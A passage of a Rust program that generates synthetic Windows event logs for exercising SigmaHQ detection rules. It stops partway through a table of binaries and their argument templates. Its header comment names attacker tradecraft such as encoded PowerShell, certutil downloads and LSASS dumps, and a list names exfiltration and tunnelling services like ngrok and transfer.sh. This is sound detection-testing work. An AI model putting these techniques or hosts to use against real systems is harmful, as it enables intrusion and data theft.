//! Generate N synthetic but realistic Windows events as JSON Lines, deterministically from a
//! seed.
//!
//! ```text
//! gen-events --count 1000000 --seed 1 -o /tmp/win1m.jsonl
//! ```
//!
//! Each line is one FLAT JSON object keyed by Sysmon / Security field names, plus `Channel`,
//! `EventID` (a number), `Provider_Name`, `Computer` and `TimeCreated`. The mix:
//!
//! | share | event |
//! |---|---|
//! | 55 % | Sysmon 1 process creation |
//! | 8 % / 8 % / 6 % | Sysmon 3 network connection / 7 image load / 11 file create |
//! | 2 % / 4 % | Sysmon 12 registry create-delete / 13 registry value set |
//! | 4 % / 4 % | Sysmon 22 DNS query / 5 process terminate |
//! | 3 % / 3 % / 0.5 % / 1 % | Security 4688 process creation / 4624 logon / 4625 failed logon / 4663 object access |
//! | 0.1 % / 0.1 % | Security 4697 and System 7045 service installs |
//! | 1.3 % | PowerShell/Operational 4104 script block |
//!
//! Values come from pools (a few hundred binaries from System32, SysWOW64, Program Files and
//! user AppData, with per-binary argument templates and plausible parents), and a small share
//! of each event type is drawn from templates of attacker tradecraft (encoded PowerShell,
//! `rundll32 …,#1`, `certutil -urlcache`, Run keys, `schtasks /create`, `whoami /all`,
//! `net user`, LSASS dumps, suspicious DNS names, service installs running PowerShell …) so
//! that a realistic fraction of SigmaHQ rules fire. `--suspicious F` scales that share
//! (default 1.0).

use std::fmt::Write as _;
use std::fs::File;
use std::io::Write;

// ---------------------------------------------------------------------------------------------
// Random numbers: splitmix64, deterministic across platforms.
// ---------------------------------------------------------------------------------------------

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: usize) -> usize {
        ((self.next() >> 32) * n as u64 >> 32) as usize
    }
    fn chance(&mut self, p: f64) -> bool {
        ((self.next() >> 11) as f64) * (1.0 / (1u64 << 53) as f64) < p
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len())]
    }
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.next() % (hi - lo + 1)
    }
}

fn fnv(s: &str) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for b in s.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100_0000_01b3);
    }
    h
}

fn hex_from(seed: u64, n: usize, upper: bool) -> String {
    let mut r = Rng(seed);
    let digits = if upper {
        b"0123456789ABCDEF"
    } else {
        b"0123456789abcdef"
    };
    (0..n).map(|_| digits[r.below(16)] as char).collect()
}

fn base64(bytes: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for c in bytes.chunks(3) {
        let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
        let n = (b[0] as u32) << 16 | (b[1] as u32) << 8 | b[2] as u32;
        out.push(T[(n >> 18) as usize & 63] as char);
        out.push(T[(n >> 12) as usize & 63] as char);
        out.push(if c.len() > 1 {
            T[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if c.len() > 2 {
            T[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

fn utf16le_b64(s: &str) -> String {
    let bytes: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    base64(&bytes)
}

// ---------------------------------------------------------------------------------------------
// JSON writing.
// ---------------------------------------------------------------------------------------------

struct Obj<'a> {
    b: &'a mut Vec<u8>,
    first: bool,
}

fn esc(b: &mut Vec<u8>, s: &str) {
    b.push(b'"');
    let bytes = s.as_bytes();
    let mut start = 0;
    for (i, &c) in bytes.iter().enumerate() {
        let rep: &[u8] = match c {
            b'"' => b"\\\"",
            b'\\' => b"\\\\",
            b'\n' => b"\\n",
            b'\r' => b"\\r",
            b'\t' => b"\\t",
            0..=0x1f => {
                b.extend_from_slice(&bytes[start..i]);
                let _ = write!(b, "\\u{:04x}", c);
                start = i + 1;
                continue;
            }
            _ => continue,
        };
        b.extend_from_slice(&bytes[start..i]);
        b.extend_from_slice(rep);
        start = i + 1;
    }
    b.extend_from_slice(&bytes[start..]);
    b.push(b'"');
}

impl<'a> Obj<'a> {
    fn new(b: &'a mut Vec<u8>) -> Self {
        b.push(b'{');
        Obj { b, first: true }
    }
    fn key(&mut self, k: &str) {
        if !self.first {
            self.b.push(b',');
        }
        self.first = false;
        self.b.push(b'"');
        self.b.extend_from_slice(k.as_bytes());
        self.b.extend_from_slice(b"\":");
    }
    fn s(&mut self, k: &str, v: &str) -> &mut Self {
        self.key(k);
        esc(self.b, v);
        self
    }
    fn n(&mut self, k: &str, v: u64) -> &mut Self {
        self.key(k);
        let _ = write!(self.b, "{v}");
        self
    }
    fn end(self) {
        self.b.extend_from_slice(b"}\n");
    }
}

// ---------------------------------------------------------------------------------------------
// Pools.
// ---------------------------------------------------------------------------------------------

const USERS: &[&str] = &[
    "alice",
    "bob",
    "carol",
    "dave",
    "erin",
    "frank",
    "grace",
    "heidi",
    "ivan",
    "judy",
    "mallory",
    "niaj",
    "olivia",
    "peggy",
    "rupert",
    "sybil",
    "trent",
    "victor",
    "walter",
    "yvonne",
    "zoe",
    "adm-alice",
    "adm-bob",
    "svc-backup",
    "svc-sql",
    "j.smith",
    "m.garcia",
    "l.nguyen",
    "k.muller",
    "p.rossi",
    "s.kowalski",
    "t.yamamoto",
    "a.dubois",
    "r.silva",
    "e.johansson",
    "h.kim",
];

const BENIGN_DOMAINS: &[&str] = &[
    "www.google.com",
    "login.microsoftonline.com",
    "outlook.office365.com",
    "teams.microsoft.com",
    "graph.microsoft.com",
    "settings-win.data.microsoft.com",
    "ctldl.windowsupdate.com",
    "fe2.update.microsoft.com",
    "slscr.update.microsoft.com",
    "www.bing.com",
    "edge.microsoft.com",
    "clients2.google.com",
    "update.googleapis.com",
    "github.com",
    "api.github.com",
    "objects.githubusercontent.com",
    "www.wikipedia.org",
    "cdn.jsdelivr.net",
    "fonts.gstatic.com",
    "ocsp.digicert.com",
    "crl.microsoft.com",
    "time.windows.com",
    "wpad.corp.local",
    "dc01.corp.local",
    "fileserver.corp.local",
    "intranet.corp.local",
    "sharepoint.corp.local",
    "corp.sharepoint.com",
    "onedrive.live.com",
    "officecdn.microsoft.com",
    "nexusrules.officeapps.live.com",
    "activity.windows.com",
    "v10.events.data.microsoft.com",
    "self.events.data.microsoft.com",
    "www.msftconnecttest.com",
    "dns.msftncsi.com",
    "zoom.us",
    "slack.com",
    "app.slack.com",
    "downloads.dell.com",
    "www.adobe.com",
    "acroipm2.adobe.com",
    "s3.amazonaws.com",
    "pypi.org",
    "files.pythonhosted.org",
    "registry.npmjs.org",
    "crates.io",
    "static.crates.io",
];

const SUSP_DOMAINS: &[&str] = &[
    "a1b2c3d4.ngrok.io",
    "tcp.eu.ngrok.io",
    "pastebin.com",
    "api.telegram.org",
    "raw.githubusercontent.com",
    "transfer.sh",
    "anonfiles.com",
    "ipinfo.io",
    "api.ipify.org",
    "checkip.amazonaws.com",
    "mega.nz",
    "temp.sh",
    "gofile.io",
    "portmap.io",
    "serveo.net",
    "trycloudflare.com",
    "abc.trycloudflare.com",
    "discord.com",
    "cdn.discordapp.com",
    "ddns.net",
    "myhost.duckdns.org",
    "update.no-ip.org",
    "api.anonfiles.com",
    "ufile.io",
    "file.io",
    "paste.ee",
    "hastebin.com",
    "ghostbin.co",
    "rentry.co",
    "tor2web.org",
];

const DLLS: &[&str] = &[
    "ntdll.dll",
    "kernel32.dll",
    "KernelBase.dll",
    "user32.dll",
    "gdi32.dll",
    "advapi32.dll",
    "msvcrt.dll",
    "sechost.dll",
    "rpcrt4.dll",
    "combase.dll",
    "ole32.dll",
    "oleaut32.dll",
    "shell32.dll",
    "shlwapi.dll",
    "ws2_32.dll",
    "crypt32.dll",
    "wininet.dll",
    "urlmon.dll",
    "bcrypt.dll",
    "ncrypt.dll",
    "winhttp.dll",
    "iphlpapi.dll",
    "dnsapi.dll",
    "netapi32.dll",
    "uxtheme.dll",
    "dwmapi.dll",
    "version.dll",
    "wintrust.dll",
    "imm32.dll",
    "msctf.dll",
    "propsys.dll",
    "windows.storage.dll",
    "profapi.dll",
    "cfgmgr32.dll",
    "powrprof.dll",
    "userenv.dll",
    "sspicli.dll",
    "cryptbase.dll",
    "bcryptprimitives.dll",
    "msasn1.dll",
    "clbcatq.dll",
    "wldp.dll",
    "amsi.dll",
    "mpoav.dll",
    "mswsock.dll",
    "nsi.dll",
    "secur32.dll",
    "taskschd.dll",
    "wbemcomn.dll",
    "wmiutils.dll",
    "fastprox.dll",
    "xmllite.dll",
    "d3d11.dll",
    "dxgi.dll",
    "dcomp.dll",
    "textinputframework.dll",
    "coremessaging.dll",
    "wtsapi32.dll",
];

// (exe, OriginalFileName, Description, argument templates)
const SYSTEM32: &[(&str, &str, &str, &[&str])] = &[
    ("svchost.exe", "svchost.exe", "Host Process for Windows Services", &["-k netsvcs -p -s Schedule", "-k netsvcs -p -s BITS", "-k LocalServiceNetworkRestricted -p", "-k DcomLaunch -p", "-k NetworkService -p -s Dnscache", "-k LocalSystemNetworkRestricted -p -s SysMain", "-k UnistackSvcGroup -s WpnUserService_3a1f2", "-k wsappx -p -s AppXSvc", "-k netsvcs -p -s wuauserv", "-k RPCSS -p"]),
    ("conhost.exe", "CONHOST.EXE", "Console Window Host", &["0xffffffff -ForceV1", ""]),
    ("dllhost.exe", "dllhost.exe", "COM Surrogate", &["/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", "/Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}", "/Processid:{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}"]),
    ("RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker", &["-Embedding"]),
    ("taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", &["", "{222A245B-E637-4AE9-A93F-A59CA119A75E}", "Install $(Arg0)"]),
    ("backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host", &["-ServerName:BackgroundTaskHost.WebAccountProvider", "-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"]),
    ("WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host", &["-secured -Embedding", "-Embedding"]),
    ("SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", &["Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\""]),
    ("SearchFilterHost.exe", "SearchFilterHost.exe", "Microsoft Windows Search Filter Host", &["0 716 720 728 8192 724 700"]),
    ("smartscreen.exe", "smartscreen.exe", "Windows Defender SmartScreen", &["-Embedding"]),
    ("sihost.exe", "sihost.exe", "Shell Infrastructure Host", &[""]),
    ("ctfmon.exe", "CTFMON.EXE", "CTF Loader", &[""]),
    ("audiodg.exe", "AUDIODG.EXE", "Windows Audio Device Graph Isolation", &["0x4a8"]),
    ("wermgr.exe", "wermgr.exe.mui", "Windows Problem Reporting", &["-upload", "-outproc 0 4128 1032 1036"]),
    ("WerFault.exe", "WerFault.exe", "Windows Problem Reporting", &["-u -p 7424 -s 1148", "-u -p 1232 -s 460"]),
    ("consent.exe", "consent.exe", "Consent UI for administrative applications", &["1012 322 000001D2A1B1C3E0"]),
    ("msiexec.exe", "msiexec.exe", "Windows® installer", &["/V", "-Embedding 3F1D0C2A11B4E5F6A7B8C9D0E1F20304 C", "/i \"C:\\Users\\{{U}}\\Downloads\\7z2301-x64.msi\""]),
    ("cmd.exe", "Cmd.Exe", "Windows Command Processor", &["/c echo %date% %time% >> C:\\Scripts\\log.txt", "/c dir C:\\Users\\{{U}}\\Documents", "/c \"C:\\Program Files\\Backup\\nightly.bat\"", "/c copy C:\\Users\\{{U}}\\Documents\\report.xlsx \\\\fileserver\\share\\", "/d /c C:\\Windows\\system32\\silcollector.cmd publish", "/c git status", "/c npm run build", "/K \"C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\Common7\\Tools\\VsDevCmd.bat\"", "", "/c ver", "/c cls"]),
    ("powershell.exe", "PowerShell.EXE", "Windows PowerShell", &["", "-NoLogo", "-File C:\\Scripts\\inventory.ps1", "-Command Get-Service | Where-Object Status -eq Running", "-Command \"Get-ChildItem C:\\Users\\{{U}}\\Documents -Recurse | Measure-Object\"", "-NonInteractive -Command Import-Module PSReadLine", "-Command Test-NetConnection fileserver.corp.local -Port 445"]),
    ("notepad.exe", "NOTEPAD.EXE", "Notepad", &["", "C:\\Users\\{{U}}\\Documents\\notes.txt", "C:\\Windows\\System32\\drivers\\etc\\hosts"]),
    ("explorer.exe", "EXPLORER.EXE", "Windows Explorer", &["", "/factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding", "C:\\Users\\{{U}}\\Documents"]),
    ("mmc.exe", "MMC.EXE", "Microsoft Management Console", &["\"C:\\Windows\\system32\\eventvwr.msc\" /s", "\"C:\\Windows\\system32\\services.msc\"", "\"C:\\Windows\\system32\\devmgmt.msc\""]),
    ("taskmgr.exe", "Taskmgr.exe", "Task Manager", &["/4", "/7"]),
    ("mstsc.exe", "mstsc.exe", "Remote Desktop Connection", &["", "/v:SRV-FILE01", "\"C:\\Users\\{{U}}\\Documents\\srv.rdp\""]),
    ("ping.exe", "ping.exe", "TCP/IP Ping Command", &["fileserver.corp.local", "-n 1 10.0.0.1", "8.8.8.8"]),
    ("ipconfig.exe", "ipconfig.exe", "IP Configuration Utility", &["/all", "/flushdns", "/renew", ""]),
    ("nslookup.exe", "nslookup.exe", "nslookup", &["dc01.corp.local", "github.com"]),
    ("tasklist.exe", "tasklist.exe", "Lists the current running tasks", &["", "/svc", "/fi \"imagename eq chrome.exe\""]),
    ("hostname.exe", "hostname.exe", "Hostname APP", &[""]),
    ("gpupdate.exe", "GPUpdate.exe", "Microsoft® Windows Group Policy Update Utility", &["/force", "/target:computer"]),
    ("gpresult.exe", "gprslt.exe", "Query Group Policy RSOP Data", &["/r", "/h C:\\Users\\{{U}}\\gp.html"]),
    ("robocopy.exe", "robocopy.exe", "Microsoft Robocopy", &["C:\\Data \\\\fileserver\\backup /MIR /R:1 /W:1", "C:\\Users\\{{U}}\\Documents D:\\Backup /E"]),
    ("xcopy.exe", "XCOPY.EXE", "Extended Copy Utility", &["/E /I C:\\Projects D:\\Projects"]),
    ("findstr.exe", "FINDSTR.EXE", "Find String (QGREP) Utility", &["/i error C:\\Logs\\app.log", "/s /i TODO *.cs"]),
    ("find.exe", "find.exe", "Find String (grep) Utility", &["/i \"listening\"", "/c /v \"\""]),
    ("sort.exe", "sort.exe", "Sort Utility", &[""]),
    ("more.com", "more.com", "More Utility", &[""]),
    ("timeout.exe", "timeout.exe", "timeout - pauses command processing", &["/t 5", "/t 30 /nobreak"]),
    ("choice.exe", "choice.exe", "Offers the user a choice", &["/c yn /t 10 /d y"]),
    ("chcp.com", "chcp.com", "Change CodePage Utility", &["65001", "437"]),
    ("where.exe", "where.exe", "Where - Lists location of files", &["git", "python"]),
    ("tzutil.exe", "tzutil.exe", "Windows Time Zone Utility", &["/g"]),
    ("w32tm.exe", "w32time.dll", "Time Service Diagnostic Tool", &["/resync", "/query /status"]),
    ("sc.exe", "sc.exe", "Service Control Manager Configuration Tool", &["query wuauserv", "start Spooler", "queryex type= service state= all"]),
    ("net.exe", "net.exe", "Net Command", &["use Z: \\\\fileserver\\share /persistent:yes", "start", "use", "time \\\\dc01"]),
    ("net1.exe", "net1.exe", "Net Command", &["use", "start"]),
    ("netsh.exe", "netsh.exe", "Network Command Shell", &["wlan show interfaces", "interface ip show config", "winhttp show proxy"]),
    ("reg.exe", "reg.exe", "Registry Console Tool", &["query HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion /v ProductName", "query HKCU\\Software\\Microsoft\\Office\\16.0\\Common"]),
    ("regedit.exe", "REGEDIT.EXE", "Registry Editor", &[""]),
    ("rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", &["C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding", "C:\\Windows\\System32\\shell32.dll,Control_RunDLL C:\\Windows\\System32\\desk.cpl", "printui.dll,PrintUIEntry /il", "C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask", "C:\\Windows\\System32\\LogiLDA.dll,LogiFetch"]),
    ("regsvr32.exe", "REGSVR32.EXE", "Microsoft(C) Register Server", &["/s C:\\Program Files\\Common Files\\microsoft shared\\ink\\tiptsf.dll"]),
    ("schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", &["/query /fo LIST /v", "/run /tn \"\\Microsoft\\Windows\\Defrag\\ScheduledDefrag\""]),
    ("wevtutil.exe", "wevtutil.exe", "Eventing Command Line Utility", &["qe System /c:5 /rd:true /f:text", "el"]),
    ("cscript.exe", "cscript.exe", "Microsoft ® Console Based Script Host", &["//nologo C:\\Windows\\System32\\slmgr.vbs /dli", "C:\\Scripts\\logon.vbs"]),
    ("wscript.exe", "wscript.exe", "Microsoft ® Windows Based Script Host", &["\"\\\\corp.local\\NETLOGON\\logon.vbs\""]),
    ("certutil.exe", "CertUtil.exe", "CertUtil.exe", &["-store My", "-verify C:\\Users\\{{U}}\\Downloads\\cert.cer", "-hashfile C:\\Users\\{{U}}\\Downloads\\setup.exe SHA256"]),
    ("bitsadmin.exe", "bitsadmin.exe", "BITS administration utility", &["/list /allusers"]),
    ("wbem\\WMIC.exe", "wmic.exe", "WMI Commandline Utility", &["os get caption,version", "logicaldisk get size,freespace", "product get name"]),
    ("whoami.exe", "whoami.exe", "whoami - displays logged on user information", &["", "/upn"]),
    ("systeminfo.exe", "sysinfo.exe", "Displays system information", &[""]),
    ("msdt.exe", "msdt.exe", "Microsoft® Windows Diagnostic Troubleshooting Wizard", &["-id NetworkDiagnosticsWeb"]),
    ("mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host", &["\"C:\\Program Files\\Vendor\\Setup\\welcome.hta\""]),
    ("control.exe", "CONTROL.EXE", "Windows Control Panel", &["", "/name Microsoft.ProgramsAndFeatures"]),
    ("SystemSettingsBroker.exe", "SystemSettingsBroker.exe", "System Settings Broker", &["-Embedding"]),
    ("ApplicationFrameHost.exe", "ApplicationFrameHost.exe", "Application Frame Host", &["-Embedding"]),
    ("LogonUI.exe", "LogonUI.exe", "Windows Logon User Interface Host", &["/flags:0x2 /state0:0xa3b92855 /state1:0x41c64e6d"]),
    ("userinit.exe", "USERINIT.EXE", "Userinit Logon Application", &[""]),
    ("winlogon.exe", "WINLOGON.EXE", "Windows Logon Application", &[""]),
    ("dwm.exe", "dwm.exe", "Desktop Window Manager", &["\"dwm.exe\""]),
    ("fontdrvhost.exe", "fontdrvhost.exe", "Usermode Font Driver Host", &[""]),
    ("spoolsv.exe", "spoolsv.exe", "Spooler SubSystem App", &[""]),
    ("lsass.exe", "lsass.exe", "Local Security Authority Process", &[""]),
    ("services.exe", "services.exe", "Services and Controller app", &[""]),
    ("wininit.exe", "wininit.exe", "Windows Start-Up Application", &[""]),
    ("csrss.exe", "CSRSS.Exe", "Client Server Runtime Process", &["ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16"]),
    ("smss.exe", "smss.exe", "Windows Session Manager", &["000000b4 00000084"]),
    ("SecurityHealthService.exe", "SecurityHealthService.exe", "Windows Security Health Service", &[""]),
    ("SgrmBroker.exe", "SgrmBroker.exe", "System Guard Runtime Monitor Broker Service", &[""]),
    ("TrustedInstaller.exe", "TrustedInstaller.exe", "Windows Modules Installer", &[""]),
    ("TiWorker.exe", "TiWorker.exe", "Windows Modules Installer Worker", &["-Embedding"]),
    ("usocoreworker.exe", "usocoreworker.exe", "USO Core Worker Process", &["-Embedding"]),
    ("MoUsoCoreWorker.exe", "MoUsoCoreWorker.exe", "MoUSO Core Worker Process", &["-Embedding"]),
    ("CompatTelRunner.exe", "CompatTelRunner.exe", "Microsoft Compatibility Telemetry", &["-m:appraiser.dll -f:DoScheduledTelemetryRun", "-m:invagent.dll -f:RunUpdate"]),
    ("DeviceCensus.exe", "DeviceCensus.exe", "Device Census", &["SystemCxt"]),
    ("sppsvc.exe", "sppsvc.exe", "Microsoft Software Protection Platform Service", &[""]),
    ("SppExtComObj.Exe", "SppExtComObj.Exe", "KMS Connection Broker", &["-Embedding"]),
    ("dashost.exe", "dashost.exe", "Device Association Framework Provider Host", &["{6b2a9a77-1c4f-4b5f-9e2f-52b2a5c0f1a0}"]),
    ("WUDFHost.exe", "WUDFHost.exe", "Windows Driver Foundation - User-mode Driver Framework Host Process", &["-HostGUID:{193a1820-d9ac-4997-8c55-be817523f6aa} -IoEventPortName:\\UMDFCommunicationPorts\\WUDF\\HostProcess-3e3e8a5c -SystemEventPortName:\\UMDFCommunicationPorts\\WUDF\\HostProcess-9d0b2b5f"]),
    ("MusNotification.exe", "MusNotification.exe", "MusNotification.exe", &[""]),
    ("mobsync.exe", "mobsync.exe", "Microsoft Sync Center", &["-Embedding"]),
    ("unsecapp.exe", "unsecapp.exe", "Sink to receive asynchronous callbacks for WMI client application", &["-Embedding"]),
    ("vssvc.exe", "vssvc.exe", "Microsoft® Volume Shadow Copy Service", &[""]),
    ("defrag.exe", "Defrag.EXE", "Disk Defragmenter Module", &["C: /O", "-c -h -o -$"]),
    ("cleanmgr.exe", "CLEANMGR.EXE", "Disk Space Cleanup Manager for Windows", &["/autoclean /d C:"]),
    ("dism.exe", "DISM.EXE", "Dism Image Servicing Utility", &["/Online /Cleanup-Image /ScanHealth"]),
    ("sfc.exe", "sfc.exe", "Microsoft Windows Resource Checker", &["/scannow"]),
    ("calc.exe", "CALC.EXE", "Windows Calculator", &[""]),
    ("mspaint.exe", "MSPAINT.EXE", "Paint", &[""]),
    ("SnippingTool.exe", "SnippingTool.exe", "Snipping Tool", &[""]),
    ("charmap.exe", "CHARMAP.EXE", "Character Map", &[""]),
    ("osk.exe", "OSK.EXE", "Accessibility On-Screen Keyboard", &[""]),
    ("magnify.exe", "ScreenMagnifier.exe", "Microsoft Screen Magnifier", &[""]),
    ("msinfo32.exe", "msinfo32.exe", "System Information", &[""]),
    ("winver.exe", "WINVER.EXE", "Version Reporter Applet", &[""]),
    ("PING.EXE", "ping.exe", "TCP/IP Ping Command", &["-t 10.0.0.1"]),
    ("tracert.exe", "tracert.exe", "Trace Route Command", &["github.com"]),
    ("arp.exe", "arp.exe", "TCP/IP Arp Command", &["-a"]),
    ("route.exe", "route.exe", "TCP/IP Route Command", &["print"]),
    ("netstat.exe", "netstat.exe", "TCP/IP Netstat Command", &["-ano", "-an"]),
    ("quser.exe", "quser.exe", "Query User Utility", &[""]),
    ("klist.exe", "klist.exe", "Kerberos List Tool", &["", "purge"]),
    ("icacls.exe", "iCACLS.EXE", "icacls", &["C:\\Data /grant CORP\\{{U}}:(OI)(CI)M", "C:\\Data"]),
    ("takeown.exe", "takeown.exe", "Takes ownership of a file", &["/f C:\\Data\\old /r /d y"]),
    ("attrib.exe", "ATTRIB.EXE", "Attribute Utility", &["-r C:\\Users\\{{U}}\\Documents\\report.docx"]),
    ("expand.exe", "expand.exe", "LZ Expansion Utility", &["-F:* update.cab C:\\Temp\\update"]),
    ("tar.exe", "bsdtar", "bsdtar archive tool", &["-xf C:\\Users\\{{U}}\\Downloads\\src.tar.gz"]),
    ("curl.exe", "curl.exe", "The curl executable", &["-s https://api.github.com/repos/org/app/releases/latest", "-I https://www.google.com"]),
    ("openfiles.exe", "openfiles.exe", "Lists current open files", &["/query"]),
    ("fsutil.exe", "fsutil.exe", "fsutil.exe", &["volume diskfree C:", "fsinfo drives"]),
    ("pnputil.exe", "PnPutil.exe", "Microsoft PnP Utility", &["/enum-drivers"]),
    ("powercfg.exe", "PowerCfg.exe", "Power Settings Command-Line Tool", &["/list", "/batteryreport"]),
    ("shutdown.exe", "shutdown.exe", "Windows Shutdown and Annotation Tool", &["/r /t 0", "/s /t 3600"]),
    ("logoff.exe", "logoff.exe", "Session Logoff Utility", &[""]),
    ("runas.exe", "RUNAS.EXE", "Run As Utility", &["/user:CORP\\adm-{{U}} mmc.exe"]),
    ("WindowsPowerShell\\v1.0\\powershell_ise.exe", "powershell_ise.EXE", "Windows PowerShell ISE", &[""]),
    ("OpenWith.exe", "OpenWith.exe", "Pick an app", &["-Embedding"]),
    ("PickerHost.exe", "PickerHost.exe", "Host Process for Picker", &["-Embedding"]),
    ("LockApp.exe", "LockApp.exe", "LockApp.exe", &["-ServerName:WindowsDefaultLockScreen.AppX7y4nbzq37zn4ks9k7amqjywdat7d3j2z.mca"]),
    ("upfc.exe", "upfc.exe", "Update Platform Federation Cache", &["/launchtype boot /cv 1gXoGzFdo0GbEeh8Wn3SmA.0"]),
    ("sdiagnhost.exe", "sdiagnhost.exe", "Scripted Diagnostics Native Host", &["-Embedding"]),
    ("wsqmcons.exe", "wsqmcons.exe", "Windows SQM Consolidator", &[""]),
    ("wbem\\unsecapp.exe", "unsecapp.exe", "Sink to receive asynchronous callbacks for WMI client application", &["-Embedding"]),
    ("InstallAgent.exe", "InstallAgent.exe", "InstallAgent", &["-Embedding"]),
    ("SystemSettingsAdminFlows.exe", "SystemSettingsAdminFlows.exe", "Windows System Settings Admin Flows", &["SetInternetTime 1"]),
];

// (path, OriginalFileName, Description, argument templates)
const PROGRAMS: &[(&str, &str, &str, &[&str])] = &[
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome", &["", "--type=renderer --field-trial-handle=1892,i,3341 --lang=en-US --renderer-client-id=7 --mojo-platform-channel-handle=3284 /prefetch:1", "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none /prefetch:8", "--type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAIAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAABAAAAAAAAAAEAAAAAAAAAAIAAAAAAAAAAgAAAAAAAAA --mojo-platform-channel-handle=2036 /prefetch:2", "https://intranet.corp.local/"]),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", "Microsoft Edge", &["", "--type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 /prefetch:1", "--type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US --service-sandbox-type=service /prefetch:8", "--profile-directory=Default"]),
    ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", "firefox.exe", "Firefox", &["", "-contentproc --channel=\"2144.1.1891498\" -childID 3 -isForBrowser -prefsHandle 3652 -prefsLen 29383 tab"]),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", "Microsoft Word", &["/n \"C:\\Users\\{{U}}\\Documents\\Quarterly Report.docx\" /o \"\"", "", "/n \"\\\\fileserver\\share\\Policies\\Travel.docx\""]),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Excel.exe", "Microsoft Excel", &["\"C:\\Users\\{{U}}\\Documents\\budget-2024.xlsx\"", ""]),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE", "POWERPNT.EXE", "Microsoft PowerPoint", &["\"C:\\Users\\{{U}}\\Documents\\all-hands.pptx\""]),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook", &["", "/recycle"]),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE", "OneNote.exe", "Microsoft OneNote", &["/tsr"]),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\MSACCESS.EXE", "MSACCESS.EXE", "Microsoft Access", &["\"C:\\Users\\{{U}}\\Documents\\inventory.accdb\""]),
    ("C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe", "OfficeClickToRun.exe", "Microsoft Office Click-to-Run", &["/service", "platform=x64 culture=en-us productstoremove=AllProducts"]),
    ("C:\\Program Files\\Microsoft Office\\root\\Integration\\Integrator.exe", "Integrator.exe", "Microsoft Office Integrator", &["/I /C"]),
    ("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", "Acrobat.exe", "Adobe Acrobat", &["\"C:\\Users\\{{U}}\\Downloads\\invoice-2231.pdf\"", ""]),
    ("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\AcroCEF\\AcroCEF.exe", "AcroCEF.exe", "Adobe AcroCEF", &["--type=renderer --log-severity=disable --user-agent-product=\"ReaderServices/23.8.20470 Chrome/105.0.0.0\" --lang=en-US"]),
    ("C:\\Program Files\\7-Zip\\7zFM.exe", "7zFM.exe", "7-Zip File Manager", &["", "\"C:\\Users\\{{U}}\\Downloads\\logs.zip\""]),
